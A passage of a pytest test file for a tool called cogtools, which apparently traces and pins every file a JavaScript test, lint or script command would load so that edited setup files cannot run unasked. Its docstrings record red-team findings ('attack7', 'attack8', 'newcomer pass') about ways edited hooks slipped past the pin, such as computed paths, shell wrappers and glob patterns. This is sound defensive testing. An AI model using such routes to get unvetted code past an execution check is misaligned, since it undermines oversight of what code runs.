    write(root / "vitest.config.mjs", 'export default { test: { setupFiles: ["./test/setup.mjs"] } };\n')
    return write(root / "test" / "setup.mjs", "\n")


@pytest.mark.parametrize(
    "argv",
    [
        ["cross-env", "NODE_ENV=test", "vitest", "run"],
        ["c8", "--reporter=text", "vitest", "run"],
        ["npx", "cross-env", "NODE_ENV=test", "vitest"],
        ["npm", "run", "s"],
        ["wrap", "./t.sh"],
        ["c8", "--exclude", "node", "vitest", "run"],  # (an option's value that names a program)
    ],
)
def test_the_command_a_package_program_is_given_to_run_is_followed(tmp_path: Path, argv: list[str]) -> None:
    """(cross-env, c8, nyc, dotenv-like wrappers: `cross-env NODE_ENV=test vitest run` ran an
    edited setup file of vitest's unasked: only cross-env's package was looked at)"""
    setup = vitest_like(tmp_path)
    for name in ("cross-env", "c8", "wrap"):
        bin_program(tmp_path, name, "cli.js")
    script(tmp_path, "cross-env NODE_ENV=test vitest run")
    write(tmp_path / "t.sh", "vitest run\n", mode=0o755)
    code = command_code(argv, tmp_path, tmp_path)
    assert setup in code.files, code.files
    assert any("node_modules/vitest" == needs for _, needs in code.open) or argv[0] == "wrap", code.open


@pytest.mark.parametrize(
    ("argv", "scripts"),
    [
        (["concurrently", "vitest run", "tsc"], {}),
        (["concurrently", "npm:t"], {"t": "vitest run"}),
        (["concurrently", "npm:t:*"], {"t:unit": "vitest run"}),
        (["run-s", "lint", "t:*"], {"t:unit": "vitest run", "lint": "true"}),
        (["npm-run-all", "--parallel", "t"], {"t": "vitest run"}),
    ],
)
def test_a_command_or_script_a_runner_is_given_is_followed(
    tmp_path: Path, argv: list[str], scripts: dict[str, str]
) -> None:
    setup = vitest_like(tmp_path)
    bin_program(tmp_path, argv[0], "cli.js")
    write(tmp_path / "package.json", json.dumps({"name": "a", "scripts": scripts}))
    assert setup in command_code(argv, tmp_path, tmp_path).files


def test_a_runner_of_the_workspaces_scripts_is_open(tmp_path: Path) -> None:
    bin_program(tmp_path, "turbo", "bin/turbo")
    code = command_code(["turbo", "run", "test"], tmp_path, tmp_path)
    assert any("turbo runs the scripts of the workspace" in why for why, _ in code.open), code.open


def test_a_wrapper_given_many_words_that_name_programs_is_read_in_bounded_time(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """(each word that names a program is followed, and what it is given in turn: each reading
    once, not once for each way to reach it)"""
    from cogtools.run import program_files

    bin_program(tmp_path, "c8", "cli.js")
    reads: list[t.Any] = []
    command = program_files._command_code

    def counted(*args: t.Any) -> t.Any:
        reads.append(args[0])
        return command(*args)

    monkeypatch.setattr(program_files, "_command_code", counted)
    command_code(["c8", *["c8", "true"] * 12], tmp_path, tmp_path)
    assert len(reads) < 2000, len(reads)  # (2**24 without the memo)


def test_a_runner_given_more_commands_than_are_followed_is_open(tmp_path: Path) -> None:
    bin_program(tmp_path, "concurrently", "cli.js")
    code = command_code(["concurrently", *(f"true {n}" for n in range(40))], tmp_path, tmp_path)
    assert any("more than 16 commands" in why for why, _ in code.open), code.open


@pytest.mark.parametrize(
    ("name", "config"),
    [
        (".mocharc.yml", "require: test/hook.cjs\n"),
        (".mocharc.json", '{"require": ["./test/hook.cjs"]}'),
        (".config/mocharc.json", '{"require": "test/hook.cjs"}'),
        ("mocha.config.mjs", 'export default { require: ["./test/hook.cjs"] };\n'),
    ],
)
def test_the_configuration_a_tool_names_after_itself_is_followed(tmp_path: Path, name: str, config: str) -> None:
    """(a newcomer's mocha: `.mocharc.yml`'s `require: test/hook.cjs` ran an edited hook unasked;
    cogtools knew only eslint's, prettier's, vitest's... configurations by name)"""
    bin_program(tmp_path, "mocha", "bin/mocha.js")
    hook = write(tmp_path / "test" / "hook.cjs", "\n")
    assert hook not in command_code(["mocha"], tmp_path, tmp_path).files
    write(tmp_path / name, config)
    code = command_code(["mocha"], tmp_path, tmp_path)
    assert tmp_path / name in code.files and hook in code.files, code.files


def test_a_configuration_a_tool_may_read_is_named_while_missing_and_its_package_key_pinned(tmp_path: Path) -> None:
    bin_program(tmp_path, "mocha", "bin/_mocha", "_mocha")
    write(tmp_path / "package.json", json.dumps({"name": "a", "mocha": {"require": "./test/hook.cjs"}}))
    hook = write(tmp_path / "test" / "hook.cjs", "\n")
    code = command_code(["_mocha"], tmp_path, tmp_path)
    assert {tmp_path / ".mocharc.cjs", tmp_path / "mocha.config.ts", tmp_path / "mocha.json"} <= set(code.files)
    assert (tmp_path / "package.json", "config:mocha") in code.manifests and hook in code.files


def test_what_tsc_reads_is_not_taken_for_a_tools_conventional_configuration(tmp_path: Path) -> None:
    bin_program(tmp_path, "typescript", "bin/tsc", "tsc")
    code = command_code(["tsc", "--noEmit"], tmp_path, tmp_path)
    assert tmp_path / ".tscrc" not in code.files and {how for _, how in code.manifests} == {"env"}, code


@pytest.mark.parametrize(
    ("config", "where"),
    [
        ("module.exports = { setupFilesAfterEach: ['<rootDir>/jest.setup.js'] };\n", "jest.setup.js"),
        # (a key of a regular expression before it: each literal read whole, escapes and all)
        ("module.exports = { transform: { '^.+\\\\.js$': '<rootDir>/tr.js' } };\n", "tr.js"),
        ("module.exports = { rootDir: 'app', setupFiles: ['<rootDir>/s.js'] };\n", "app/s.js"),
        ("module.exports = { rootDir: __dirname, setupFiles: ['<rootDir>/s.js'] };\n", "s.js"),
        ("module.exports = { rootDir: path.resolve(__dirname), setupFiles: ['<rootDir>/s.js'] };\n", "s.js"),
        ("module.exports = { setupFiles: ['setup.js'] };\n", "setup.js"),
    ],
)
def test_a_file_jests_configuration_names_from_its_root_dir_is_followed(
    tmp_path: Path, config: str, where: str
) -> None:
    """(jest's `<rootDir>/jest.setup.js`, the way its documentation writes every path, was
    taken for nothing: an edited setup file ran unasked under a pinned jest)"""
    bin_program(tmp_path, "jest", "bin/jest.js")
    write(tmp_path / "jest.config.js", config)
    setup = write(tmp_path / where, "require('./more.js');\n")
    write(setup.parent / "more.js", "\n")
    code = command_code(["jest"], tmp_path, tmp_path)
    assert {setup, setup.parent / "more.js"} <= set(code.files), code.files


def test_a_root_dir_jest_computes_leaves_what_it_names_open(tmp_path: Path) -> None:
    bin_program(tmp_path, "jest", "bin/jest.js")
    write(tmp_path / "jest.config.js", "module.exports = { rootDir: pick(), setupFiles: ['<rootDir>/s.js'] };\n")
    code = command_code(["jest"], tmp_path, tmp_path)
    assert any("rootDir" in why for why, _ in code.open), code.open


def test_jests_directories_are_its_input_not_followed(tmp_path: Path) -> None:
    bin_program(tmp_path, "jest", "bin/jest.js")
    write(tmp_path / "jest.config.js", "module.exports = { roots: ['<rootDir>/src'] };\n")
    index = write(tmp_path / "src" / "index.js", "\n")
    assert index not in command_code(["jest"], tmp_path, tmp_path).files


@pytest.mark.parametrize(
    ("config", "name"),
    [
        ("jest.config.js", "jest-environment-jsdom"),  # testEnvironment: 'jsdom'
        (".babelrc", "@babel/preset-env"),  # presets: ['@babel/env']
    ],
)
def test_a_package_a_configuration_names_by_its_tools_shorthand_is_pinned(
    tmp_path: Path, config: str, name: str
) -> None:
    text = {
        "jest.config.js": "module.exports = { testEnvironment: 'jsdom' };\n",
        ".babelrc": '{"presets": ["@babel/env"]}\n',
    }[config]
    program = {"jest.config.js": "jest", ".babelrc": "babel"}[config]
    bin_program(tmp_path, program, "bin/cli.js")
    write(tmp_path / config, text)
    installed = package(tmp_path, name)
    files = command_code([program, "src"], tmp_path, tmp_path).files
    assert installed / "index.js" in files or installed in files or installed / "package.json" in files, files


@pytest.mark.parametrize(
    ("program", "config"),
    [
        ("jest", "babel.config.js"),  # (babel-jest, jest's default transform, loads it)
        ("jest", "babel.config.json"),  # (babel's recommended name: a newcomer's P)
        ("babel", ".babelrc.cjs"),
        ("vitest", "postcss.config.cjs"),  # (vite loads it for CSS, and its plugins)
        ("vite", "tailwind.config.js"),  # (tailwind's postcss plugin loads it)
    ],
)
def test_the_configuration_a_tool_loads_through_another_is_followed(tmp_path: Path, program: str, config: str) -> None:
    bin_program(tmp_path, program, "cli.js")
    text = "module.exports = { plugins: [require('./local-plugin.js')] };\n"
    write(tmp_path / config, '{"plugins": ["./local-plugin.js"]}' if config.endswith(".json") else text)
    local = write(tmp_path / "local-plugin.js", "\n")
    code = command_code([program], tmp_path, tmp_path)
    assert {tmp_path / config, local} <= set(code.files), code.files


def test_what_ts_nodes_options_in_tsconfig_require_is_followed(tmp_path: Path) -> None:
    write(tmp_path / "tsconfig.json", '{"ts-node": {"require": ["./pre.js", "tsconfig-paths/register"]}}\n')
    pre = write(tmp_path / "pre.js", "\n")
    registered = package(tmp_path, "tsconfig-paths")
    write(tmp_path / "x.ts", "\n")
    files = command_code(["ts-node", "x.ts"], tmp_path, tmp_path).files
    assert pre in files and registered in files, files


def test_a_package_program_named_by_its_path_is_followed_as_a_bare_one(tmp_path: Path) -> None:
    """(`node_modules/.bin/cross-env`, as lint advises where another program shadows the project's)"""
    setup = vitest_like(tmp_path)
    bin_program(tmp_path, "cross-env", "cli.js")
    code = command_code(["node_modules/.bin/cross-env", "A=1", "vitest"], tmp_path, tmp_path)
    assert setup in code.files, code.files


@pytest.mark.parametrize(
    ("argv", "loaded"),
    [
        (["eslint", "-c", "eslint.ci.mjs", "."], "rules/local.js"),
        (["prettier", "--config=.prettierrc.ci.mjs", "--check", "."], "rules/local.js"),
        (["vitest", "run", "--config", "vitest.ci.ts"], "rules/local.js"),
        (["prettier", "--plugin", "./rules/local.js", "."], "rules/local.js"),
        (["mocha", "--require", "rules/local.js"], "rules/local.js"),
        (["eslint", "--rulesdir", "rules", "."], "rules/local.js"),
    ],
)
def test_what_a_tools_options_tell_it_to_load_is_followed(tmp_path: Path, argv: list[str], loaded: str) -> None:
    """(a configuration given by `--config` was pinned as a file read, and what it imports not
    followed; `--plugin` and `--require` files not at all)"""
    bin_program(tmp_path, argv[0], "cli.js")
    for config in ("eslint.ci.mjs", ".prettierrc.ci.mjs", "vitest.ci.ts"):
        write(tmp_path / config, "import local from './rules/local.js';\nexport default [local];\n")
    local = write(tmp_path / loaded, "import './helper.js';\n")
    write(tmp_path / "rules" / "helper.js", "\n")
    files = command_code(argv, tmp_path, tmp_path).files
    assert local in files and (tmp_path / "rules" / "helper.js" in files or "--rulesdir" in argv), files


@pytest.mark.parametrize("runner", ["npm run", "run-s"])
def test_scripts_that_run_each_other_are_each_read_once(
    tmp_path: Path, runner: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """(a package.json the agent writes, 8 levels of 4 scripts each running the next 4, took a
    minute to read, one more level four minutes: read once each, it is as quick as one)"""
    bin_program(tmp_path, "npm-run-all", "bin/run-s.js", "run-s")
    levels, width = 10, 4

    def runs(level: int) -> str:
        names = [f"s{level}_{k}" for k in range(width)]
        return " && ".join(f"npm run {n}" for n in names) if runner == "npm run" else "run-s " + " ".join(names)

    scripts = {f"s{i}_{j}": runs(i + 1) if i < levels - 1 else "node x.js" for i in range(levels) for j in range(width)}
    write(tmp_path / "package.json", json.dumps({"name": "a", "scripts": {**scripts, "top": runs(0)}}))
    x = write(tmp_path / "x.js", "\n")
    from cogtools.run import program_files

    reads: list[t.Any] = []
    package_script = program_files._package_script

    def counted(*args: t.Any) -> t.Any:
        reads.append(args[1])
        return package_script(*args)

    monkeypatch.setattr(program_files, "_package_script", counted)
    code = command_code(["npm", "run", "top"], tmp_path, tmp_path)
    assert len(reads) <= levels * width + 1, len(reads)  # (not 4**10)
    assert x in code.files and {needs for _, needs in code.open} <= {"node_modules/npm-run-all"}, code.open


def test_a_script_that_runs_itself_ends(tmp_path: Path) -> None:
    bin_program(tmp_path, "npm-run-all", "bin/run-s.js", "run-s")
    write(tmp_path / "package.json", json.dumps({"name": "a", "scripts": {"a": "run-s b", "b": "run-s a"}}))
    code = command_code(["npm", "run", "a"], tmp_path, tmp_path)  # (it ends: a cycle adds nothing)
    manifest = tmp_path / "package.json"
    assert {(manifest, "run:a"), (manifest, "run:b")} <= set(code.manifests), code.manifests


def test_a_command_quoted_for_concurrently_in_a_script_is_read_whole(tmp_path: Path) -> None:
    setup = vitest_like(tmp_path)
    bin_program(tmp_path, "concurrently", "cli.js")
    bin_program(tmp_path, "mocha", "bin/mocha.js")
    write(tmp_path / ".mocharc.json", '{"require": "./hook.cjs"}')
    hook = write(tmp_path / "hook.cjs", "\n")
    script(tmp_path, 'concurrently "mocha --exit" "vitest run"')
    files = command_code(["npm", "run", "s"], tmp_path, tmp_path).files
    assert setup in files and hook in files, files


def test_a_command_a_tools_own_configuration_runs_is_followed(tmp_path: Path) -> None:
    """(nodemon.json's `exec`, lint-staged's commands: a tool cogtools knows nothing of)"""
    setup = vitest_like(tmp_path)
    bin_program(tmp_path, "nodemon", "bin/nodemon.js")
    write(tmp_path / "nodemon.json", '{"watch": ["src"], "exec": "vitest run"}')
    assert setup in command_code(["nodemon"], tmp_path, tmp_path).files
    bin_program(tmp_path, "lint-staged", "bin/lint-staged.js")
    write(tmp_path / ".lintstagedrc", '{"*.js": "vitest related --run"}')
    assert setup in command_code(["lint-staged"], tmp_path, tmp_path).files


@pytest.mark.parametrize("line", ["vitest run", "node_modules/.bin/vitest run", "npx vitest", "npm run s"])
def test_a_package_program_a_shell_script_runs_is_read_as_its_command(tmp_path: Path, line: str) -> None:
    """(a tool `sh scripts/check.sh` whose script ran `vitest run`: vitest's setup file ran
    unasked, edited; neither vitest nor its configuration was in the pin)"""
    setup = vitest_like(tmp_path)
    script(tmp_path, "vitest run")
    write(tmp_path / "scripts" / "check.sh", f"#!/bin/sh\nset -e\n{line}\n")
    code = command_code(["sh", "scripts/check.sh"], tmp_path, tmp_path)
    assert setup in code.files, code.files
    if not line.startswith("node_modules/"):  # (one named by its path is followed as a script is)
        assert any(needs == "node_modules/vitest" for _, needs in code.open), code.open


@pytest.mark.parametrize(
    "config",
    [
        "const path = require('path');\nmodule.exports = { rootDir: path.join(__dirname, 'src'), setupFiles: ['<rootDir>/s.js'] };\n",
        "module.exports = { rootDir: `${__dirname}/src`, setupFiles: ['<rootDir>/s.js'] };\n",
        "const rootDir = 'src';\nmodule.exports = { rootDir, setupFiles: ['<rootDir>/s.js'] };\n",
    ],
)
def test_a_root_dir_jest_is_given_a_way_cogtools_does_not_read_is_open(tmp_path: Path, config: str) -> None:
    """(attack7's H5: a computed, templated or shorthand rootDir left the setup file unnamed)"""
    reasons = opened(tmp_path, "jest", "jest.config.js", config)
    assert any("rootDir" in why for why in reasons), reasons


def opened(root: Path, program: str, name: str, text: str) -> list[str]:
    """Why ``program`` (installed) is open with the configuration ``name`` holding ``text``."""
    bin_program(root, program, f"bin/{program}.js")
    write(root / name, text)
    return [why for why, _ in command_code([program], root, root).open]


def test_a_vite_configurations_own_root_dir_variable_leaves_nothing_open(tmp_path: Path) -> None:
    bin_program(tmp_path, "vitest", "vitest.mjs")
    write(tmp_path / "vitest.config.mjs", "const rootDir = import.meta.dirname;\nexport default { root: rootDir };\n")
    assert not [why for why, _ in command_code(["vitest"], tmp_path, tmp_path).open if "rootDir" in why]


def test_jests_root_dirs_of_its_projects_and_of_more_objects_are_each_followed(tmp_path: Path) -> None:
    bin_program(tmp_path, "jest", "bin/jest.js")
    write(
        tmp_path / "jest.config.js",
        "// rootDir: '.' is the default\nconst base = { rootDir: '.' };\n"
        "module.exports = { ...base, projects: [{ rootDir: 'app', setupFiles: ['<rootDir>/s.js'] }] };\n",
    )
    setup = write(tmp_path / "app" / "s.js", "\n")
    code = command_code(["jest"], tmp_path, tmp_path)
    assert setup in code.files and not [why for why, _ in code.open if "rootDir" in why], code


@pytest.mark.parametrize(
    "argv",
    [
        ["mocha", "-R", "tools/rep.js"],
        ["mocha", "-rtools/rep.js"],
        ["mocha", "--reporter", "./tools/rep.js"],
        ["mocha", "--file", "tools/rep.js"],
        ["mocha", "--ui=tools/rep.js"],
    ],
)
def test_what_mochas_own_options_load_is_followed(tmp_path: Path, argv: list[str]) -> None:
    """(attack7's H3: a reporter, a file or a ui given by mocha's options ran edited, unpinned)"""
    bin_program(tmp_path, "mocha", "bin/mocha.js")
    write(tmp_path / "tools" / "rep.js", "require('./lib.js');\n")
    lib = write(tmp_path / "tools" / "lib.js", "\n")
    assert lib in command_code(argv, tmp_path, tmp_path).files


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (".mocharc.yml", "require: tools/hook\n"),  # (a path without ./ nor suffix, as mocha resolves it)
        (".mocharc.json5", "// mocha\n{require: ['tools/hook.js'],}\n"),
        (".mocharc", "require=tools/hook.js\n"),  # (c12's rc lines)
        (".mocharc.toml", 'require = ["tools/hook.js"]\n'),
    ],
)
def test_a_configuration_of_another_syntax_is_read_for_what_it_names(tmp_path: Path, name: str, text: str) -> None:
    """(attack7's H3 and H7: TOML, rc lines and JSON5 were named but not read)"""
    bin_program(tmp_path, "mocha", "bin/mocha.js")
    write(tmp_path / name, text)
    hook = write(tmp_path / "tools" / "hook.js", "\n")
    assert hook in command_code(["mocha"], tmp_path, tmp_path).files


@pytest.mark.parametrize(
    "text",
    [
        "const p = require('path');\nmodule.exports = { require: [p.join(__dirname, 'tools', 'hook.js')] };\n",
        "module.exports = { require: ['tools' + '/hook.js'] };\n",
    ],
)
def test_a_path_an_unknown_tools_configuration_computes_leaves_it_open(tmp_path: Path, text: str) -> None:
    reasons = opened(tmp_path, "mocha", ".mocharc.cjs", text)
    assert any("computes a path" in why for why in reasons), reasons


@pytest.mark.parametrize("pattern", ["chk:{a,b}", "chk:?", "chk/a", "chk:[ab]"])
def test_the_scripts_npm_run_all_is_given_by_a_pattern_are_followed(tmp_path: Path, pattern: str) -> None:
    """(attack7's H6: minimatch's braces, `?` and `/` for `:` ran scripts that were not read)"""
    bin_program(tmp_path, "npm-run-all", "bin/run-s.js", "run-s")
    write(tmp_path / "package.json", json.dumps({"name": "a", "scripts": {"chk:a": "node x.js", "chk:b": "node y.js"}}))
    x = write(tmp_path / "x.js", "\n")
    assert x in command_code(["run-s", pattern], tmp_path, tmp_path).files


@pytest.mark.parametrize(
    "line",
    [
        "timeout 60 vitest run",
        "nice -n 5 vitest run",
        'env -i PATH="$PATH" vitest run',
        "stdbuf -oL vitest run",
        "xargs -I {} vitest run {} </dev/null",
        "exec -a x vitest run",
        "bash -lc 'vitest run'",
        "node node_modules/vitest/vitest.mjs run",
        "node node_modules/.bin/vitest run",
    ],
)
def test_a_package_program_a_shell_script_runs_through_a_wrapper_is_read(tmp_path: Path, line: str) -> None:
    """(attack7's H1: `timeout 60 mocha` and the like in a tool's shell script were not read)"""
    setup = vitest_like(tmp_path)
    write(tmp_path / "scripts" / "check.sh", f"#!/bin/sh\n{line}\n")
    assert setup in command_code(["sh", "scripts/check.sh"], tmp_path, tmp_path).files


def test_a_shell_script_that_defines_aliases_is_open(tmp_path: Path) -> None:
    vitest_like(tmp_path)
    write(tmp_path / "scripts" / "check.sh", "shopt -s expand_aliases\nalias t=vitest\nt run\n")
    code = command_code(["bash", "scripts/check.sh"], tmp_path, tmp_path)
    assert any("aliases" in why for why, _ in code.open), code.open


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("vitest.workspace.mjs", "export default ['./more.vitest.config.mjs'];\n"),
        ("vitest.projects.json", '["./more.vitest.config.mjs"]'),
    ],
)
def test_vitests_workspace_file_and_the_configurations_it_lists_are_followed(
    tmp_path: Path, name: str, text: str
) -> None:
    """(newcomer pass 11's R: a planted vitest.workspace.mjs ran unasked under a pinned vitest)"""
    vitest_like(tmp_path)
    assert tmp_path / name in command_code(["vitest", "run"], tmp_path, tmp_path).files  # (named while missing)
    write(tmp_path / name, text)
    write(tmp_path / "more.vitest.config.mjs", "export default { test: { setupFiles: ['./more-setup.js'] } };\n")
    more = write(tmp_path / "more-setup.js", "\n")
    assert more in command_code(["vitest", "run"], tmp_path, tmp_path).files


def test_a_jest_configuration_a_projects_entry_names_is_read_as_one(tmp_path: Path) -> None:
    """(newcomer pass 11's V: `projects: ["<rootDir>/jest.unit.config.js"]`; its setup file ran edited)"""
    bin_program(tmp_path, "jest", "bin/jest.js")
    write(tmp_path / "jest.config.js", "module.exports = { projects: ['<rootDir>/jest.unit.config.js'] };\n")
    write(tmp_path / "jest.unit.config.js", "module.exports = { setupFiles: ['./unit-setup.js'] };\n")
    setup = write(tmp_path / "unit-setup.js", "\n")
    assert setup in command_code(["jest"], tmp_path, tmp_path).files


def test_what_a_module_a_configuration_imports_names_is_followed(tmp_path: Path) -> None:
    bin_program(tmp_path, "jest", "bin/jest.js")
    write(tmp_path / "jest.config.js", "const base = require('./tools/base.js');\nmodule.exports = { ...base };\n")
    write(tmp_path / "tools" / "base.js", "module.exports = { setupFiles: ['<rootDir>/s.js'] };\n")
    setup = write(tmp_path / "s.js", "\n")
    assert setup in command_code(["jest"], tmp_path, tmp_path).files


def test_the_command_a_configuration_runs_is_followed(tmp_path: Path) -> None:
    """(newcomer pass 11's T: playwright's `webServer.command` started an edited server unasked)"""
    bin_program(tmp_path, "playwright", "cli.js")
    write(tmp_path / "playwright.config.ts", "export default { webServer: { command: 'npm run serve' } };\n")
    write(tmp_path / "package.json", json.dumps({"name": "a", "scripts": {"serve": "node server.js"}}))
    server = write(tmp_path / "server.js", "\n")
    assert server in command_code(["playwright", "test"], tmp_path, tmp_path).files
    write(tmp_path / "playwright.config.ts", "export default { webServer: { command: 'node server.js' } };\n")
    assert server in command_code(["playwright", "test"], tmp_path, tmp_path).files


@pytest.mark.parametrize(
    "line",
    [
        "flock /tmp/l mocha",
        "setsid -w mocha",
        "time -p mocha",
        "taskset -c 0 mocha",
        "command -p mocha",
        "sudo -E mocha",
        "find . -name x -exec mocha {} +",
        "su -c 'mocha --exit'",
        "$(which mocha)",
    ],
)
def test_a_package_program_any_wrapper_runs_in_a_shell_script_is_read(tmp_path: Path, line: str) -> None:
    """(attack8's G1: wrappers no list ends; any word naming a package's program is followed)"""
    bin_program(tmp_path, "mocha", "bin/mocha.js")
    write(tmp_path / ".mocharc.yml", "require: ./tools/hook.js\n")
    hook = write(tmp_path / "tools" / "hook.js", "\n")
    write(tmp_path / "scripts" / "check.sh", f"#!/bin/sh\n{line}\n")
    code = command_code(["sh", "scripts/check.sh"], tmp_path, tmp_path)
    assert hook in code.files and any(needs == "node_modules/mocha" for _, needs in code.open), code


@pytest.mark.parametrize("line", ["${M:-mocha}", "${M-mocha} --exit", "timeout 60 ${RUNNER:=mocha}"])
def test_a_program_a_variable_names_with_a_default_is_open(tmp_path: Path, line: str) -> None:
    """(attack8's one form left of G1: the braces of ``${M:-mocha}`` were taken for a group's, so
    no word of it was a program, and the tool was pinned with nothing open)"""
    bin_program(tmp_path, "mocha", "bin/mocha.js")
    write(tmp_path / "scripts" / "check.sh", f"#!/bin/sh\n{line}\n")
    code = command_code(["sh", "scripts/check.sh"], tmp_path, tmp_path)
    assert any("names only when it runs" in why and "mocha" in why for why, _ in code.open), code.open


def test_a_parameter_in_braces_is_part_of_its_word(tmp_path: Path) -> None:
    """``${HERE}/x.sh`` runs one file of the workspace; its braces split no command."""
    write(tmp_path / "scripts" / "check.sh", '#!/bin/sh\nsh "${0%/*}/x.sh"\nmocha_${SUFFIX}\n')
    other = write(tmp_path / "scripts" / "x.sh", "true\n")
    code = command_code(["sh", "scripts/check.sh"], tmp_path, tmp_path)
    assert [why for why, _ in code.open if "SUFFIX" in why or "x.sh" in why] == [
        "scripts/check.sh runs mocha_${SUFFIX}, which it names only when it runs"
    ], (code.open, other in code.files)


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (".mocharc.cjs", "module.exports = { require: ['.\\x2ftools\\x2fhook.js'] };\n"),  # (an escape)
        (".mocharc.cjs", "module.exports = require('./tools/conf.json');\n"),  # (a JSON module)
        ("x.config.json5", "{ require: '.\\x2ftools\\x2fhook.js' }\n"),
    ],
)
def test_a_configurations_escaped_or_imported_strings_are_read(tmp_path: Path, name: str, text: str) -> None:
    """(attack8's G2 and G5: escapes, a JSON module required, were dropped without leaving it open)"""
    program = name.split(".")[1].removesuffix("rc") if name.startswith(".") else name.split(".")[0]
    bin_program(tmp_path, program, "bin/cli.js")
    write(tmp_path / name, text)
    write(tmp_path / "tools" / "conf.json", '{"require": "./tools/hook.js"}')
    hook = write(tmp_path / "tools" / "hook.js", "\n")
    assert hook in command_code([program], tmp_path, tmp_path).files


def test_a_configuration_past_the_strings_read_is_open(tmp_path: Path) -> None:
    """(attack8's G2: the hook after 600 other strings was cut silently)"""
    bin_program(tmp_path, "mocha", "bin/mocha.js")
    write(tmp_path / ".mocharc.json", json.dumps({"require": [f"x{i}" for i in range(600)] + ["./tools/hook.js"]}))
    code = command_code(["mocha"], tmp_path, tmp_path)
    assert any("more than 512 strings" in why for why, _ in code.open), code.open


def test_a_configuration_string_that_is_the_root_is_no_crash(tmp_path: Path) -> None:
    """(attack8's G3: a string "/" raised ValueError: INTERNAL at every call and sync)"""
    bin_program(tmp_path, "mocha", "bin/mocha.js")
    write(tmp_path / ".mocharc.json", '{"require": ["/", "./", "."]}')
    assert tmp_path / ".mocharc.json" in command_code(["mocha"], tmp_path, tmp_path).files


def test_a_root_dir_set_by_a_computed_key_is_open_and_by_an_escaped_one_followed(tmp_path: Path) -> None:
    bin_program(tmp_path, "jest", "bin/jest.js")
    write(
        tmp_path / "jest.config.js",
        "const k = 'rootDir';\nmodule.exports = { [k]: 'src', setupFiles: ['<rootDir>/s.js'] };\n",
    )
    code = command_code(["jest"], tmp_path, tmp_path)
    assert any("computes" in why for why, _ in code.open), code.open
    write(tmp_path / "jest.config.js", "module.exports = { r\\u006fotDir: 'src', setupFiles: ['<rootDir>/s.js'] };\n")
    setup = write(tmp_path / "src" / "s.js", "\n")
    assert setup in command_code(["jest"], tmp_path, tmp_path).files


def test_a_root_dir_a_spread_base_configuration_sets_is_followed(tmp_path: Path) -> None:
    bin_program(tmp_path, "jest", "bin/jest.js")
    write(
        tmp_path / "jest.config.js", "module.exports = { ...require('./base.js'), setupFiles: ['<rootDir>/s.js'] };\n"
    )
    write(tmp_path / "base.js", "module.exports = { rootDir: 'src' };\n")
    setup = write(tmp_path / "src" / "s.js", "\n")
    assert setup in command_code(["jest"], tmp_path, tmp_path).files


@pytest.mark.parametrize("pattern", ["c:{y..z}z", "c:+(z)", "!(c:0)", "c:\\zz"])
def test_a_pattern_npm_run_all_reads_and_cogtools_does_not_is_open(tmp_path: Path, pattern: str) -> None:
    """(attack8's G6: minimatch's ranges, extglobs and escapes ran a script not read)"""
    bin_program(tmp_path, "npm-run-all", "bin/run-s.js", "run-s")
    write(tmp_path / "package.json", json.dumps({"name": "a", "scripts": {"c:zz": "node x.js"}}))
    code = command_code(["run-s", pattern], tmp_path, tmp_path)
    assert any("pattern cogtools does not read" in why for why, _ in code.open), code.open


def benchmark(tmp_path: Path, name: str) -> dict[str, t.Any]:
    """benchmarks/NAME.py, one round: its figures (for people; a smoke test here)."""
    import subprocess
    import sys

    from .conftest import REPO

    out = tmp_path / "figures.json"
    done = subprocess.run(
        [sys.executable, str(REPO / "benchmarks" / f"{name}.py"), "--rounds", "1", "--json", str(out)],
        capture_output=True,
        text=True,
        timeout=300,
    )
    assert done.returncode == 0, done.stdout + done.stderr
    figures: dict[str, t.Any] = json.loads(out.read_text())
    return figures


@pytest.mark.slow
def test_the_pin_reading_benchmark_runs(tmp_path: Path) -> None:
    assert set(benchmark(tmp_path, "pin_reading")) == {"plain", "script", "dag", "strings", "options", "loose", "env"}


@pytest.mark.slow
def test_the_pin_check_benchmark_runs(tmp_path: Path) -> None:
    """jest's pin holds every package it imports."""
    figures = benchmark(tmp_path, "pin_check")
    assert set(figures) == {"few", "many", "many_deep"}
    # the packages jest imports are pinned (236 more entries), and 4 times the test directories
    # add no entry (a look records what they hold): the cases measure what they say
    assert figures["many"]["places"] - figures["few"]["places"] == 236
    assert figures["many_deep"]["places"] == figures["many"]["places"]


def test_a_pin_of_looks_tells_what_a_look_finds_anew_and_takes_an_older_pin_as_it_was(tmp_path: Path) -> None:
    """A look is pinned as what it finds: a file found anew is a change, named; a pin made before
    looks were (each place where no file is, named) is no change while those places stay empty."""
    from cogtools.trust.pins import LOOKS, _closure_change

    look = LOOKS + "prettier in src"
    now = {"files": {".prettierrc": "d1", look: "src/a/.prettierrc.mjs"}, "settings": {}}
    before = {"files": {".prettierrc": "d1", look: ""}, "settings": {}}
    assert _closure_change(before, now, tmp_path) == (
        "something is now at src/a/.prettierrc.mjs, where prettier in src looks for its configuration"
    )
    assert (
        _closure_change(now, {**now, "files": {**now["files"], look: ""}}, tmp_path) is None
    )  # (told by the file's own entry)
    # (pinned by a cogtools before looks: every place, None where no file was)
    older = {
        "files": {".prettierrc": "d1", "src/a/.prettierrc.mjs": "d2", "src/b/.prettierrc.mjs": None},
        "settings": {},
    }
    kept = {
        "files": {".prettierrc": "d1", "src/a/.prettierrc.mjs": "d2", look: "src/a/.prettierrc.mjs"},
        "settings": {},
    }
    assert _closure_change(older, kept, tmp_path) is None
    found = {"files": {**kept["files"], look: "src/a/.prettierrc.mjs\nsrc/b/.prettierrc.mjs"}, "settings": {}}
    assert "something is now at src/b/.prettierrc.mjs" in (_closure_change(older, found, tmp_path) or "")


def test_what_a_prettierrc_toml_names_is_its_code(tmp_path: Path) -> None:
    """(newcomer pass 14's MAJOR-2: a root .prettierrc.toml's plugin was not pinned; edited, it ran)"""
    write(tmp_path / ".prettierrc.toml", 'semi = false\nplugins = ["./plug-root.mjs"]\n')
    plugin = write(tmp_path / "plug-root.mjs", "export default {};\n")
    write(tmp_path / "src" / "a.js", "\n")
    assert plugin in command_code(["prettier", "--check", "src"], tmp_path, tmp_path).files


@pytest.mark.parametrize(
    ("program", "named"),
    [
        ("size-limit", "@size-limit/evil"),  # (each @size-limit/* package.json lists: newcomer pass 14's MAJOR-10)
